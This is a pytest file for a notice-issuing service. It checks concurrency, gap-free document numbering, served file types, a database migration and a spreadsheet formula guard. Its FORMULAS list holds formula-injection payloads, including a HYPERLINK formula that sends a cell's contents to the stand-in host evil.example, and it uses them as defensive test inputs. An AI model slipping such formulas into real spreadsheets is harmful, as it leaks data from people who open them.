"""The audit of 2026-12-07 (shared/audits/desk.md): notices issued once, nothing read in the
server process, no formula reaches a spreadsheet."""
from __future__ import annotations

import io
import threading
from concurrent.futures import ThreadPoolExecutor
from urllib.parse import unquote

import pytest
from openpyxl import Workbook, load_workbook

from test_desk_support import client, cluster, http, upload, wait_checked  # noqa: F401 - fixtures


def test_notices_and_reports_never_run_a_check_in_the_server(tmp_path, monkeypatch):
    import validator.check.pipeline

    entered: list[int] = []

    def refuse(*_args, **_kwargs):
        entered.append(threading.get_ident())
        raise AssertionError("a check ran in the server process")

    monkeypatch.setattr(validator.check.pipeline, "run_check", refuse)
    with client(tmp_path) as http:
        case_id = upload(http, "yangzhou-pharmacy-defective").json()["id"]
        assert wait_checked(http, case_id)["status"] == "done"  # the check process is spawned: not patched
        assert http.post(f"/api/cases/{case_id}/notice").status_code == 201
        assert http.get(f"/cases/{case_id}/versions/1/report.html").status_code == 200
    assert entered == []


def test_concurrent_notice_requests_issue_one_notice(http):
    case_ids = [upload(http, "yangzhou-pharmacy-defective").json()["id"] for _ in range(2)]
    for case_id in case_ids:
        wait_checked(http, case_id)
    with ThreadPoolExecutor(8) as pool:
        answers = list(pool.map(lambda case_id: http.post(f"/api/cases/{case_id}/notice"), case_ids * 4))
    assert {answer.status_code for answer in answers} <= {200, 201}
    for case_id in case_ids:
        mine = [answer for answer in answers if answer.request.url.path == f"/api/cases/{case_id}/notice"]
        assert sorted(answer.status_code for answer in mine) == [200, 200, 200, 201]
        assert len({answer.headers["x-document-number"] for answer in mine}) == 1
    numbers = {answer.headers["x-document-number"] for answer in answers}
    assert len(numbers) == 2  # one each, and no number used up by a duplicate (gap-free)
    assert sorted(unquote(n)[-5:-1] for n in numbers) == ["0001", "0002"]


def test_a_second_request_returns_the_notice_already_issued(http):
    case_id = upload(http, "yangzhou-pharmacy-defective").json()["id"]
    wait_checked(http, case_id)
    first = http.post(f"/api/cases/{case_id}/notice")
    again = http.post(f"/api/cases/{case_id}/notice")
    assert (first.status_code, again.status_code) == (201, 200)
    assert first.headers["x-document-number"] == again.headers["x-document-number"]
    assert first.content == again.content


def test_only_docx_and_pdf_notices_are_served(tmp_path):
    with client(tmp_path) as http:
        case_id = upload(http, "yangzhou-pharmacy-defective").json()["id"]
        wait_checked(http, case_id)
        http.post(f"/api/cases/{case_id}/notice")
        assert http.get(f"/cases/{case_id}/notices/1.docx").status_code == 200
        assert http.get(f"/cases/{case_id}/notices/1.exe").status_code == 404


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_guard_writes_risky_values_as_text(value, tmp_path):
    from validator.formula_guard import as_text, safe_cells

    book = Workbook(write_only=True)
    sheet = book.create_sheet("s")
    sheet.append(safe_cells(sheet, [value, "扬州某药房", 3]))
    book.save(tmp_path / "w.xlsx")
    row = next(load_workbook(tmp_path / "w.xlsx").active.iter_rows())
    assert row[0].data_type == "s" and row[0].value == value and row[0].quotePrefix
    assert not row[1].quotePrefix and row[2].value == 3  # near miss: ordinary text and numbers unchanged
    assert as_text(Workbook().active["A1"]).value is None


def test_export_writes_an_applicant_formula_as_text(tmp_path):
    with client(tmp_path) as http:
        case_id = upload(http, "taiyuan-clinic-defective", institution=FORMULAS[0]).json()["id"]
        wait_checked(http, case_id)
        sheet = load_workbook(io.BytesIO(http.get("/export.xlsx").content)).active
    cell = sheet.cell(row=2, column=2)
    assert cell.value == FORMULAS[0] and cell.data_type == "s" and cell.quotePrefix


def test_batch_summary_writes_formulas_as_text():
    from validator.batch.summary import PACKAGE_COLUMNS, _fill_sheet

    sheet = Workbook().active
    _fill_sheet(sheet, PACKAGE_COLUMNS, [{"package": "a.zip", "institution": FORMULAS[0], "errors": 2}], "zh")
    assert sheet["B2"].data_type == "s" and sheet["B2"].quotePrefix
    assert sheet["A2"].value == "a.zip" and not sheet["A2"].quotePrefix


def test_migration_keeps_duplicates_issued_before_it_on_record(tmp_path):
    import sqlalchemy as sa

    from validator.desk.database import make_engine, migrate, utcnow
    from validator.desk.register import CaseFields, Upload, create_case
    from validator.desk.settings import make_settings

    engine = make_engine(make_settings(tmp_path / "data").db_url)
    migrate(engine, "0003")
    with engine.begin() as conn:
        case_id, version_id = create_case(conn, "clerk", Upload("0" * 64, 1, "a.zip"), CaseFields())
        for number in ("〔2026〕第0001号", "〔2026〕第0002号"):
            conn.execute(sa.text("INSERT INTO notices (case_id, version_id, kind, agency, number, issued_on, sha256, "
                                 "issued_by, issued_at) VALUES (:c, :v, 'correction', 'a', :n, '2026-12-07', :s, 'x', :t)"),
                         {"c": case_id, "v": version_id, "n": number, "s": "0" * 64, "t": utcnow()})
    migrate(engine)
    with engine.connect() as conn:
        rows = conn.execute(sa.text("SELECT id, voided FROM notices ORDER BY id")).all()
    assert [row.voided for row in rows] == [0, rows[1].id]
